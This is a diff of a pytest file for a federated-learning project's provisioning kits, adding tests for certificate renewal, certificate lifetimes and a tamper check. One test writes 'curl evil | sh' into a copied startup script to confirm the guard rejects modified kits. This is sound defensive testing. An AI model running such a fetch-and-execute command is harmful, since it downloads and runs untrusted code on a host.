@@ -1,14 +1,16 @@
 """Kits as provisioned: policies inside, sealed, the same bytes again, nothing re-issued."""
 
 import json
+import shutil
 from pathlib import Path
 
 import pytest
+from cryptography import x509
 from nvflare.app_common.default_component_policy import DEFAULT_CLASS_ALLOW_LIST
 
 from fedvox.errors import ConfigError
 from fedvox.flare.kit_builder import KitBuilder
-from fedvox.flare.kit_guard import check_kit
+from fedvox.flare.kit_guard import KitGuard, check_kit
 from fedvox.flare.loopback.kits import Kits, provision
 
 POLICIES = Path(__file__).parents[2] / "provisioning/policies"
@@ -55,6 +57,34 @@ def test_building_again_with_one_more_site_leaves_the_other_kits_as_they_were(ki
     for name in ("site-1", "site-2", "lead@hospital-a.org"):
         assert files(again.kit(name)) == files(kits.kit(name))
     check_kit(again.kit("site-4"))
+
+
+def test_renewing_one_certificate_changes_only_that_kit(project, tmp_path):
+    before = provision(project(), tmp_path)
+    store = tmp_path / "fedvox/state/cert.json"
+    state = json.loads(store.read_text())
+    del state["site-1"]
+    store.write_text(json.dumps(state))
+    after = provision(before.project, tmp_path)
+    old, new = (
+        x509.load_pem_x509_certificate((made.kit("site-1") / "startup/client.crt").read_bytes())
+        for made in (before, after)
+    )
+    assert old.serial_number != new.serial_number
+    check_kit(after.kit("site-1"))
+    for name in ("site-2", "localhost", "lead@hospital-a.org"):
+        assert files(after.kit(name)) == files(before.kit(name))
+
+
+def test_certificates_last_as_long_as_the_page_says(kits):
+    page = (POLICIES.parent / "README.md").read_text()
+    certificate = x509.load_pem_x509_certificate(
+        (kits.kit("site-1") / "startup/client.crt").read_bytes()
+    )
+    root = x509.load_pem_x509_certificate((kits.kit("site-1") / "startup/rootCA.pem").read_bytes())
+    days = (certificate.not_valid_after_utc - certificate.not_valid_before_utc).days
+    assert f"certificates last {days} days" in page
+    assert (root.not_valid_after_utc - root.not_valid_before_utc).days == 3650
 
 
 @pytest.mark.parametrize("kind", ["site", "server"])
@@ -112,10 +142,20 @@ def test_missing_policies_stop_provisioning_with_a_remedy(tmp_path, kits):
         provision({**kits.project, "builders": builders}, tmp_path)
 
 
+def test_a_container_checks_the_copy_of_the_kit_that_it_works_in(kits, tmp_path, monkeypatch):
+    """FLARE copies a read-only kit into the workspace and links its folders there."""
+    shutil.copytree(kits.kit("site-1"), tmp_path / "kit")
+    for part in ("startup", "local"):
+        (tmp_path / part).symlink_to(tmp_path / "kit" / part)
+    monkeypatch.chdir(tmp_path)
+    KitGuard()
+    (tmp_path / "startup/start.sh").write_text("curl evil | sh")
+    with pytest.raises(ConfigError, match=r"startup/start\.sh: changed"):
+        KitGuard()
+
+
 @pytest.mark.parametrize("name", ["sub_start.sh", "fed_client.json", "client.crt", "rootCA.pem"])
 def test_a_kit_changed_by_one_byte_is_refused_by_name(kits, tmp_path, name):
-    import shutil
-
     kit = tmp_path / "kit"
     shutil.copytree(kits.kit("site-1"), kit)
     path = kit / "startup" / name
